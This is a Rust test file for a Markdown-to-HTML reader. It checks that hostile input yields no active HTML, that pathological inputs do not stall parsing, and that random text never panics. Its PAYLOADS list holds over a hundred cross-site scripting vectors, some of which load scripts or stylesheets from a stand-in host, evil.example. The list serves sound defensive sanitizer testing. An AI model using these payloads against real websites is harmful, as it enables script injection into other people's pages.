//! Texts from people who mean harm: nothing active survives, nothing stalls, nothing panics.

use std::collections::HashSet;
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;
use crate::base::SitePath;
use crate::model::{Address, Fill, LinkTarget, Words};

/// What takes longer hangs or explodes. Far beyond what a busy machine needs: speed is measured in
/// `benches/`, not asserted here.
const HANGS: Duration = Duration::from_secs(60);

/// Attributes that Tidings writes or lets through.
const ATTRIBUTES: [&str; 34] = [
    "alt",
    "aria-label",
    "checked",
    "cite",
    "class",
    "colspan",
    "controls",
    "datetime",
    "decoding",
    "dir",
    "disabled",
    "height",
    "href",
    "id",
    "lang",
    "loading",
    "loop",
    "muted",
    "name",
    "open",
    "playsinline",
    "poster",
    "reversed",
    "role",
    "rowspan",
    "scope",
    "span",
    "src",
    "start",
    "tabindex",
    "title",
    "type",
    "value",
    "width",
];

static OPTIONS: LazyLock<Markdown> = LazyLock::new(Markdown::default);

static HIGHLIGHTS: LazyLock<Highlights> = LazyLock::new(Highlights::default);

static TYPES: LazyLock<Vec<ChangeType>> = LazyLock::new(ChangeType::defaults);

fn dialect() -> Dialect<'static> {
    Dialect {
        options: &OPTIONS,
        highlights: &HIGHLIGHTS,
        types: &TYPES,
        repository: Some("https://github.com/acme/acme"),
        sections: true,
        title_from_heading: true,
        is_release: false,
        words: true,
    }
}

fn read_text(text: &str) -> Reported<Body> {
    read(&Source::new(SitePath::new("a.md").unwrap(), text), 0, &dialect())
}

/// Every part of a body, with links resolved to what was written, which is the worst that can be.
fn parts(body: &Body) -> Vec<String> {
    let written = |target: &LinkTarget| match target {
        LinkTarget::Root(path) => path.clone(),
        LinkTarget::Relative { path, fragment } => format!("{path}{fragment}"),
        LinkTarget::Fragment(id) => format!("#{id}"),
    };
    let addresses: Vec<Address> = body.links.iter().map(|link| written(&link.target).into()).collect();
    let words = Words::new(str::to_owned);
    let edition = crate::model::Edition::default();
    let fill = Fill { base: "", edition: &edition, id_prefix: "", level: 1, words: &words };
    let htmls = [&body.html, &body.intro].into_iter().chain(&body.migration);
    htmls.chain(body.changes.iter().map(|change| &change.html)).map(|html| html.fill(&addresses, fill)).collect()
}

/// What is wrong with `html`, read by rules stricter than a browser's: only known tags, only
/// attributes in double quotes, only harmless addresses, ids once, tags balanced.
fn fault(html: &str) -> Option<String> {
    let mut ids = HashSet::new();
    let mut open: Vec<&str> = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let is_end = rest.starts_with('/');
        let inside = rest.trim_start_matches('/');
        let end = inside.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(inside.len());
        let (name, mut attributes) = inside.split_at(end);
        if !(raw::TAGS.contains(&name) || name == "input") {
            return Some(format!("the tag <{name}"));
        }
        while let Some(attribute) = attributes.strip_prefix(' ') {
            let end = attribute.find(|c: char| !(c.is_ascii_lowercase() || c == '-')).unwrap_or(attribute.len());
            let (name, value) = attribute.split_at(end);
            let (value, behind) = match value.strip_prefix("=\"") {
                Some(value) => match value.split_once('"') {
                    Some(parts) => parts,
                    None => return Some(format!("{name} without an end: {value:.40}")),
                },
                None => ("", value),
            };
            if !ATTRIBUTES.contains(&name) {
                return Some(format!("the attribute {name}"));
            }
            if matches!(name, "href" | "src" | "poster" | "cite") && !is_harmless(value) {
                return Some(format!("the address {value}"));
            }
            if name == "id" && !ids.insert(value.to_owned()) {
                return Some(format!("the id {value} twice"));
            }
            attributes = behind;
        }
        rest = match attributes.strip_prefix('>') {
            Some(rest) => rest,
            None => return Some(format!("<{name} without an end: {attributes:.40}")),
        };
        if is_end {
            if open.pop() != Some(name) {
                return Some(format!("</{name}> closes another tag"));
            }
        } else if !["br", "hr", "img", "input", "col", "source", "wbr"].contains(&name) {
            open.push(name);
        }
    }
    open.pop().map(|name| format!("<{name}> stays open"))
}

fn is_harmless(address: &str) -> bool {
    let address = address.replace("&amp;", "&").replace("&#39;", "'").to_lowercase();
    let first = address.split(['/', '?', '#']).next().unwrap_or_default();
    ["http:", "https:", "mailto:"].iter().any(|scheme| address.starts_with(scheme)) || !first.contains(':')
}

fn assert_harmless(text: &str) {
    for html in parts(&read_text(text).value) {
        if let Some(fault) = fault(&html) {
            panic!("{fault}\n--- from\n{text}\n--- came\n{html}");
        }
    }
}

/// Ways to run something, each tried as a text, in a list, in a heading, in a quote and in a table.
const PAYLOADS: &[&str] = &[
    "<script>x()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<script\n>x()</script\n>",
    "<script/x>x()</script>",
    "</p><script>x()</script>",
    "<img src=x onerror=x()>",
    "<img src=x onerror = 'x()'>",
    "<img/src=x/onerror=x()>",
    "<img src=\"x\"onerror=\"x()\">",
    "<IMG SRC=javascript:x()>",
    "<IMG SRC=`javascript:x()`>",
    "<IMG SRC=\"jav&#x09;ascript:x();\">",
    "<IMG SRC=\"jav\tascript:x();\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;x()>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;x()>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img \"\"\"><script>x()</script>\">",
    "<a href=\"javascript:x()\">a</a>",
    "<a href=\" &#14; javascript:x()\">a</a>",
    "<a href=\"JaVaScRiPt&colon;x()\">a</a>",
    "<a href=\"java&NewLine;script&Tab;:x()\">a</a>",
    "<a href='vbscript:x()'>a</a>",
    "<a href=\"data:text/html,<script>x()</script>\">a</a>",
    "<a href=\"https://a.example\" onmouseover=x()>a</a>",
    "<a href=\"https://a.example\" style=\"background:url(javascript:x())\">a</a>",
    "<a href=\"https://a.example\" ping=\"https://evil.example\" target=x>a</a>",
    "<a xlink:href=\"javascript:x()\">a</a>",
    "<a/href=\"javascript:x()\"/a>",
    "<svg onload=x()>",
    "<svg><script>x()</script></svg>",
    "<svg><a xlink:href=\"javascript:x()\"><text>a</text></a></svg>",
    "<svg><animate onbegin=x() attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=x()></style></svg>",
    "<math><mi xlink:href=\"javascript:x()\">a</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x()>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:x())}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=javascript:x()></iframe>",
    "<iframe srcdoc=\"<script>x()</script>\"></iframe>",
    "<object data=javascript:x()></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:x()\">",
    "<form action=javascript:x()><input type=submit></form>",
    "<form><button formaction=javascript:x()>a</button></form>",
    "<input autofocus onfocus=x()>",
    "<isindex action=javascript:x() type=image>",
    "<body onload=x()>",
    "<html><head><title><script>x()</script></title>",
    "<table background=\"javascript:x()\"><td background=javascript:x()>a</table>",
    "<div style=\"width:expression(x())\">a</div>",
    "<div onclick=x() ONCLICK=x() oNcLiCk = x()>a</div>",
    "<details ontoggle=x() open>a</details>",
    "<video src=javascript:x() poster=javascript:x() onerror=x()><source onerror=x()></video>",
    "<audio src=x onerror=x()>",
    "<marquee onstart=x()>a</marquee>",
    "<template><script>x()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=x()>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=x()>\">",
    "<title><img title=\"</title><img src=x onerror=x()>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=x()>\">",
    "<plaintext><script>x()</script>",
    "<!--><script>x()</script>-->",
    "<!--a--!><script>x()</script>-->",
    "<![CDATA[<script>x()</script>]]>",
    "<?php x() ?><script>x()</script>",
    "<p title=\"--><script>x()</script>\">",
    "<p title='\"><script>x()</script>'>a",
    "<p id=\"x\" id=\"y\" class=\"a\" onx=1>a",
    "<div title=\"\n\n<script>x()</script>\n\n\">",
    "<a title=\"`<script>x()</script>`\" href=x>a</a>",
    "<\u{0}script>x()</script>",
    "<b <script>x()</script>>",
    "<< script>x()</ script>",
    "&lt;script&gt;x()&lt;/script&gt;",
    "&#60;script&#62;x()&#60;/script&#62;",
    "\u{FF1C}script\u{FF1E}x()",
    "[a](javascript:x())",
    "[a](JAVASCRIPT:x())",
    "[a](<java\tscript:x()>)",
    "[a](&#106;avascript:x())",
    "[a](javascript&colon;x())",
    "[a](javascript%3Ax())",
    "[a](\u{1}javascript:x())",
    "[a](vbscript:x())",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](x \"\\\" onclick=x()\")",
    "[a](x '\"><script>x()</script>')",
    "[a](x\"onclick=x())",
    "[a](x%22onclick=x())",
    "[a](<x\"><script>x()</script>>)",
    "[a][b]\n\n[b]: javascript:x() \"t\"",
    "![a](javascript:x())",
    "![a\"onerror=\"x()](x.png)",
    "![<script>x()</script>](x.png \"\\\"><script>\")",
    "![a](x.png\"onerror=x())",
    "<javascript:x()>",
    "<data:text/html,x>",
    "https://a.example/\"onclick=x()",
    "https://a.example/<script>x()</script>",
    "```\"><script>x()</script>\nx\n```",
    "```js\" onclick=x()\nlet a = '</code><script>x()</script>';\n```",
    "```html\n<script>x()</script><img src=x onerror=x()>\n```",
    "```diff\n+<script>x()</script>\n```",
    "`<script>x()</script>`",
    "# a {#\"><script> .\"onclick=x() onclick=x()}",
    "# a {onclick=x() style=x id=y}",
    "a[^\"><script>x()</script>]\n\n[^\"><script>x()</script>]: <script>x()</script>",
    "> [!NOTE]\n> <script>x()</script>",
    "> [!BREAKING]\n> <img src=x onerror=x()>",
    "\u{FDD0}\u{FDD1}1\u{FDD2}0\u{FDD4}\u{FDD3}javascript:x()\u{FDD4}",
    "<a href=\"&#xFDD3;javascript:x()&#xFDD4;\">a</a>",
    "<a href=\"&#64978;0&#64980;\" title=\"&#xfdd3;\">&#xFDD3;javascript:x()&#xFDD4;</a>",
    "<b>&#x0FDD3javascript:x()&#00064980</b>",
    "&#xFDD3;javascript:x()&#xFDD4;<b></b>",
];

#[test]
fn nothing_active_survives() {
    for payload in PAYLOADS {
        let lines = payload.replace('\n', "\n  ");
        let quoted = payload.replace('\n', "\n> ");
        for text in [
            payload.to_string(),
            format!("a {payload} b <u>c</u>"),
            format!("## Added\n\n- {lines}\n- <u>b</u>\n\n## Migration\n\n{payload}"),
            format!("# {payload}\n\n## {payload}"),
            format!("> {quoted}\n\n| {payload} |\n|---|\n| {payload} |"),
            format!("<div>\n\n{payload}\n\n</div>\n\n<p title=\"{payload}\">"),
            format!("Term {payload}\n: {lines}"),
        ] {
            assert_harmless(&text);
        }
    }
}

#[test]
fn plain_fields_stay_plain_text() {
    let body = read_text("# <script>x()</script> T\n\nA <b onclick=x>b</b> c. D\n").value;
    assert_eq!((body.title.as_deref(), body.summary.as_str()), (Some("x() T"), "A b c."));
}

/// Patterns that some parser takes long for, repeated to a length.
const PATTERNS: &[&str] = &[
    "[",
    "![",
    "]",
    "[](",
    "[a](<",
    "*a",
    "**a",
    "*a _b ",
    "_a ",
    "a**",
    "~~a",
    "`",
    "``a`",
    "\\`",
    ">",
    "> ",
    "- ",
    "* a\n",
    "1. ",
    "- - ",
    "#",
    "# a\n",
    "|",
    "|a",
    "|a|\n|-|\n",
    "a | b\n",
    "<",
    "<a ",
    "<!--",
    "<?",
    "<!A ",
    "<![CDATA[",
    "<div>",
    "<div>\n\n",
    "</div>",
    "<b id=1>",
    "<p>",
    "<table><tr><td>",
    "<a href=\"",
    "<svg>",
    "&",
    "&#",
    "&#x",
    "&a;",
    "[^a]",
    "[^a]: b\n",
    "[a]: b\n",
    "[a][b]",
    "\\",
    "\\\n",
    "  \n",
    "\t",
    "\n",
    "a\n===\n",
    "```\n",
    "~~~\na\n",
    ": a\n",
    "a\n: b\n",
    "- [ ] a\n",
    "> [!NOTE]\n",
    "#1 ",
    "a/b#1 ",
    "0a1b2c3 ",
    "CVE-2026-1234 ",
    "https://a.example ",
    "://",
    "a@b.c ",
    "é",
    "𝒳",
    "{#a}\n",
    "# a {#b}\n",
    "**Breaking:** a\n",
    "## Added\n- a\n",
    "[a](b.md) ",
    "![a](b.png)\n",
    "<img src=a>",
    "<i id=a></i>",
    "`a",
    "x](y) [",
    "(((",
    "\"",
    "'a' ",
    "--",
    "...",
];

#[test]
fn nothing_stalls() {
    let length = if cfg!(debug_assertions) { 100_000 } else { 1_000_000 };
    for pattern in PATTERNS {
        let text = pattern.repeat(length / pattern.len());
        let start = Instant::now();
        read_text(&text);
        let taken = start.elapsed();
        assert!(taken < HANGS, "{pattern:?}: {taken:?}");
    }
}

/// Words that mean something to a part of the reader.
fn words() -> impl Strategy<Value = String> {
    let known = PATTERNS.iter().chain(PAYLOADS).map(|word| (*word).to_owned()).collect::<Vec<_>>();
    let word = prop_oneof![4 => prop::sample::select(known), 1 => "\\PC{0,8}", 1 => Just("\n\n".to_owned())];
    prop::collection::vec(word, 0..12).prop_map(|words| words.concat())
}

proptest! {
    #[test]
    fn any_text_is_read_without_harm(text in words()) {
        let read = read_text(&text);
        prop_assert!(read.diagnostics.iter().all(|diagnostic| diagnostic.code != "internal-error"), "{:?}", text);
        for html in parts(&read.value) {
            prop_assert_eq!(fault(&html), None, "{:?}\n{}", text, html);
        }
    }
}
